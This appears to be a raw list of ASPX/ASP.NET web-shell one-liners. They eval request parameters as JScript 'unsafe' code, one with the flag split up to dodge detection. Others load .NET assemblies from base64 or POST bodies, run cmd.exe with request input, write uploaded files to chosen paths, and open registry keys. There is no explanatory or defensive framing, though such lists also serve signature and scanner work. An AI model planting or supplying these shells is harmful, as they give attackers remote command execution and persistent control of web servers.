<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>
<%@ Page Language = "JScript" %><% Eval( Request.Form["z"] , "unsafe" ) ; %>
<%@ Page Language="Jscript"%><%eval(Request["z"],"un"+"safe");%>
<%@ Page Language="Jscript"%><%var c=Request.QueryString["c"];eval(c,"unsafe");%>
<% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this); %>
<% Assembly.Load( Request.BinaryRead(Request.ContentLength) ).CreateInstance("X"); %>
<% Session["payload"] = System.Reflection.Assembly.Load(data); %>
<% var a = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[]{typeof(byte[])}); %>
<% Process.Start( "cmd.exe" , "/c " + Request["c"] ); %>
<% var p = new ProcessStartInfo("cmd.exe", "/C " + Request.Form["c"]); Process.Start(p); %>
<% psi.FileName = "cmd.exe"; psi.Arguments = "/c " + Request.QueryString["c"]; %>
<% Request.Files[0].SaveAs(Server.MapPath(Request["f"])); %>
<% new StreamWriter(Request.Form["p"]).Write(Request.Form["d"]); %>
<script runat="server">Sub Page_Load() : Dim w As New StreamWriter(Request.Form("p"), True) : w.Write(Request.Form("c")) : End Sub</script>
<% var x = Registry.LocalMachine.OpenSubKey(Request["k"]); %>
